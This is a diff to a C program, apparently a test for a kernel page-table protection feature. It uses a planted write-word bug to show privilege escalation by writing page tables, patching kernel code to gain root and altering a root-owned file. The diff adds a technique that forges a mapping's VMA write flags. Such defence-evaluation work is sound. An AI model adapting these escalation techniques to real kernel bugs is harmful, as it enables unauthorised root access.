@@ -3,7 +3,8 @@
  * Description: shows what users can do with a bug that writes a word of kernel memory,
  * if they know where things are: they write to their own page tables and, through
  * these, to memory that is read-only even for the kernel. They change a file that root
- * owns, and they become root by changing the kernel's code.
+ * owns, and they become root by changing the kernel's code. They also change that file
+ * without touching a page table.
  *
  * Usage: privilege TRIES
  */
@@ -22,9 +23,13 @@
 #include "task.h"
 #include "write_record.h"
 
-enum kind { FILE_PAGE, KERNEL_PAGE };
+enum kind { FILE_PAGE, KERNEL_PAGE, FILE_VMA };
 
 #define WRITABLE (1UL << 1)
+
+/* Of a mapping: it may be written to, and may be made so */
+#define VM_WRITE    0x02UL
+#define VM_MAYWRITE 0x20UL
 
 #define ROOTS_FILE "/roots_file"
 
@@ -46,13 +51,18 @@ struct attacker {
 };
 
 /* Kills the process if page tables are protected. */
-static void write_entry(struct attacker *a, const struct table_entry *entry, uint64_t value)
+static void write_word(struct attacker *a, uint64_t address, uint64_t value)
 {
-	struct kpkeys_write_word word = { .address = entry->address, .value = value };
+	struct kpkeys_write_word word = { .address = address, .value = value };
 
 	a->progress->writes = true;
 	if (ioctl(a->bug, KPKEYS_WRITE_WORD, &word))
 		fail("the bug");
+}
+
+static void write_entry(struct attacker *a, const struct table_entry *entry, uint64_t value)
+{
+	write_word(a, entry->address, value);
 }
 
 /* The kernel flushes the whole TLB instead of this many single pages. */
@@ -77,17 +87,37 @@ static struct table_entry own_entry(const struct tables *t, const volatile void 
 	exit(1);
 }
 
-/* Make the read-only mapping of a file writable. */
-static void change_file(struct attacker *a)
+/* The read-only mapping of a file. */
+static volatile char *map_file(void)
 {
-	struct tables tables = own_tables(a->probe);
 	int file = open(ROOTS_FILE, O_RDONLY | O_CLOEXEC);
 	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ, MAP_SHARED, file, 0);
-	struct table_entry entry;
 
 	if (page == MAP_FAILED || *page != UNTOUCHED)
 		fail(ROOTS_FILE);
-	entry = own_entry(&tables, page);
+	return page;
+}
+
+/* Have the kernel itself make it writable: it believes what it keeps about mappings. */
+static void change_file_by_vma(struct attacker *a)
+{
+	volatile char *page = map_file();
+	uint64_t address = (uintptr_t)page, flags;
+
+	if (ioctl(a->probe, KPKEYS_PROBE_VMA_FLAGS, &address) ||
+	    !probe_read(a->probe, address, &flags, sizeof(flags)))
+		fail("the mapping");
+	write_word(a, address, flags | VM_WRITE | VM_MAYWRITE);
+	*page = CHANGED;
+}
+
+/* Make it writable in the page tables. */
+static void change_file(struct attacker *a)
+{
+	struct tables tables = own_tables(a->probe);
+	volatile char *page = map_file();
+	struct table_entry entry = own_entry(&tables, page);
+
 	write_entry(a, &entry, entry.value | WRITABLE);
 	forget_translations();
 	*page = CHANGED;
@@ -173,12 +203,12 @@ static void attack(struct attacker *a, void (*act)(struct attacker *))
 	exit(1);
 }
 
-static bool changes_file(struct attacker *a)
+static bool changes_file(struct attacker *a, void (*change)(struct attacker *))
 {
 	const char untouched[] = { UNTOUCHED, '\0' };
 
 	write_file(ROOTS_FILE, untouched);
-	attack(a, change_file);
+	attack(a, change);
 	return first_character(ROOTS_FILE) != UNTOUCHED;
 }
 
@@ -206,8 +236,9 @@ int main(int argc, char **argv)
 	/* An attacker that fails must not take the kernel along. */
 	write_file(panic_on_oops, "0");
 	for (size_t i = 0; i < tries; i++) {
-		print_write(FILE_PAGE, changes_file(&a));
+		print_write(FILE_PAGE, changes_file(&a, change_file));
 		print_write(KERNEL_PAGE, becomes_root(&a));
+		print_write(FILE_VMA, changes_file(&a, change_file_by_vma));
 	}
 	write_file(panic_on_oops, panics);
 	return 0;
